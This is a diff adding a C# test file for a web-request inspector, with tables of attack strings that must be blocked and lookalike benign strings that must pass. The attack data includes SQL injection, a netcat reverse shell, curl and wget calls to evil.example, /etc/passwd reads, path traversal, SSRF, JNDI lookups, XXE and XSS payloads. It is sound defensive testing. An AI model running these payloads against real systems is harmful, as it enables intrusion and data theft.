@@ -1,0 +1,148 @@
+using System.Text.Json;
+
+namespace Pellicle.Inspection.Tests;
+
+/// <summary>What is an attack in a parameter, and what looks like one and is not.</summary>
+public sealed class DetectorTables
+{
+    private static InspectionVerdict Inspect(string text) => Inspector.Inspect(JsonSerializer.SerializeToUtf8Bytes(new { queryStringParameters = new { q = text } }));
+
+    private static void IsAttack(string detector, string text)
+    {
+        var verdict = Inspect(text);
+        verdict.Decision.ShouldBe(InspectionDecision.Block, text);
+        verdict.Signals.ShouldContain(s => s.Detector == detector && s.Confidence >= 0.9, text);
+    }
+
+    private static void IsNotAttack(string text)
+    {
+        var verdict = Inspect(text);
+        verdict.Decision.ShouldBe(InspectionDecision.Allow, $"{text}: {verdict.Signals.FirstOrDefault()}");
+        verdict.Full.ShouldBeTrue();
+    }
+
+    [Theory]
+    [InlineData("1 or 1=1")]
+    [InlineData("' or 'a'='a")]
+    [InlineData("admin'--")]
+    [InlineData("x' union select password from users--")]
+    [InlineData("1; drop table users")]
+    [InlineData("1 and substring(version(),1,1)=5")]
+    [InlineData("8) and (3)=(3")]
+    [InlineData("' or x=x")]
+    [InlineData("1' and sleep(5)#")]
+    public void Sql_injection(string text) => IsAttack("sql-injection", text);
+
+    [Theory]
+    [InlineData("O'Brien")]
+    [InlineData("the seat's cover and the chair's legs")]
+    [InlineData("john+or@var.es")]
+    [InlineData("CHRISTMAS STOCKING \"NOT\" STUFFER")]
+    [InlineData("BAMBOO CHARCOAL SOAP 1 '#")]
+    [InlineData("\"ATEAM\" AND AND \"GIFT CERTIFICATE\"")]
+    [InlineData("\"red shoes\" AND \"size 9\"")]
+    [InlineData("select one of the union members and order by phone")]
+    [InlineData("Rock'n'roll or jazz = good music")]
+    [InlineData("'alpha' => 1,")]
+    [InlineData("run 'make' and select the new locale")]
+    public void Not_sql_injection(string text) => IsNotAttack(text);
+
+    [Theory]
+    [InlineData("127.0.0.1; cat /etc/passwd")]
+    [InlineData("localhost;id")]
+    [InlineData("$(curl http://evil.example/x)")]
+    [InlineData("a | nc -e /bin/sh 10.0.0.1 4444")]
+    [InlineData("x && wget http://evil.example/a")]
+    [InlineData("c'a't</etc/passwd; w\\hoami;")]
+    [InlineData("() { ignored; }; echo vulnerable")]
+    [InlineData("print(`echo A\necho $((1+1))`);")]
+    public void Command_injection(string text) => IsAttack("command-injection", text);
+
+    [Theory]
+    [InlineData("mammal;cat;ears")]
+    [InlineData("Oxygen & Sleep Associates Inc")]
+    [InlineData("text/html; charset=utf-8")]
+    [InlineData("use `cat` to read the file and `ls` to list it")]
+    [InlineData("| X86 | Windows/MingW | GCC | 13 |")]
+    [InlineData("npm run build && node dist/index.js")]
+    [InlineData("salt & pepper; time to find the best")]
+    [InlineData("a=1&sort=2&find=3")]
+    public void Not_command_injection(string text) => IsNotAttack(text);
+
+    [Theory]
+    [InlineData("../../etc/passwd")]
+    [InlineData("..%2f..%2fetc%2fpasswd")]
+    [InlineData("%252e%252e%252fetc%252fpasswd")]
+    [InlineData("%c0%ae%c0%ae/boot.ini")]
+    [InlineData("..\\..\\windows\\win.ini")]
+    [InlineData(".%00./.%00./etc/issue")]
+    [InlineData("/proc/self/environ")]
+    [InlineData("0x2e0x2e%u2216boot.ini")]
+    public void Path_traversal(string text) => IsAttack("path-traversal", text);
+
+    [Theory]
+    [InlineData("docs/readme.md")]
+    [InlineData("wait... what?")]
+    [InlineData("100% sure.. really")]
+    [InlineData("see /etc/hosts for the names of the machines")]
+    [InlineData("https://shop.example/a/b/c?x=1&y=2&z=..")]
+    [InlineData("file.tar..gz")]
+    [InlineData("import x from '../lib/x'")]
+    public void Not_path_traversal(string text) => IsNotAttack(text);
+
+    [Theory]
+    [InlineData("ssrf", "http://169.254.169.254/latest/meta-data/")]
+    [InlineData("ssrf", "http://2130706433/")]
+    [InlineData("ssrf", "gopher://127.0.0.1:6379/_x")]
+    [InlineData("template-injection", "${jndi:ldap://evil.example/a}")]
+    [InlineData("template-injection", "${j${x:-n}di:${y:-l}dap://evil.example/a}")]
+    [InlineData("template-injection", "{{7*7}}")]
+    [InlineData("xml-entity", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>")]
+    [InlineData("xml-entity", "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><x/>")]
+    [InlineData("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC")]
+    [InlineData("deserialization", "O:8:\"Evil\":1:{s:1:\"a\";i:1;}")]
+    [InlineData("code-injection", "require('child_process').execSync('id')")]
+    [InlineData("server-side-include", "<!--#exec cmd=\"ls\" -->")]
+    [InlineData("header-injection", "x\r\nSet-Cookie: a=b")]
+    [InlineData("header-injection", "%0d%0aSet-Cookie:crlf=injection")]
+    [InlineData("ldap-injection", "*)(uid=*))(|(uid=*")]
+    [InlineData("nosql-injection", "true, $where: '99 == 88'")]
+    [InlineData("scanner", "sqlmap/1.7.4#stable (https://sqlmap.org)")]
+    public void Other_attacks(string detector, string text) => IsAttack(detector, text);
+
+    [Theory]
+    [InlineData("http://localhost:3000/callback")]
+    [InlineData("https://example.com:8443/a//b")]
+    [InlineData("// 1: see the note below")]
+    [InlineData("Hello {{name}}, your order ${id} is ready")]
+    [InlineData("<!DOCTYPE html><html><body>hi</body></html>")]
+    [InlineData("<!DOCTYPE html SYSTEM \"about:legacy-compat\">")]
+    [InlineData("GIFT CARD: 10% off\nContent: a pair of socks")]
+    [InlineData("Date: Mon\nSubject: hello\nContent-Type: text/plain\n\nhello")]
+    [InlineData("(uid or cn) = name")]
+    [InlineData("we pay in $ne and $gt are operators of the database, see the manual for how $where: is used in a longer article")]
+    [InlineData("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36")]
+    [InlineData("AKIA rO0 is the name of a plane")]
+    public void Other_texts(string text) => IsNotAttack(text);
+
+    [Theory]
+    [InlineData("<script>alert(1)</script>")]
+    [InlineData("\"onmouseover=\"alert(1)")]
+    [InlineData("<a href=\"&#106;avascript:x\">")]
+    [InlineData("<img src=x onerror=alert(1)>")]
+    public void Script_is_reported_and_left_to_the_policy(string text)
+    {
+        var verdict = Inspect(text);
+        verdict.Decision.ShouldBe(InspectionDecision.Allow);
+        verdict.Signals.ShouldContain(s => s.Detector == "xss" && s.Confidence >= 0.7);
+    }
+
+    [Fact]
+    public void A_long_document_that_quotes_attacks_is_reported_and_not_blocked()
+    {
+        var article = string.Join('\n', Enumerable.Repeat("An attacker sends '; cat /etc/passwd' or ' or 1=1-- and reads the file.", 60));
+        var verdict = Inspect(article);
+        verdict.Decision.ShouldBe(InspectionDecision.Allow);
+        verdict.Signals.ShouldNotBeEmpty();
+    }
+}
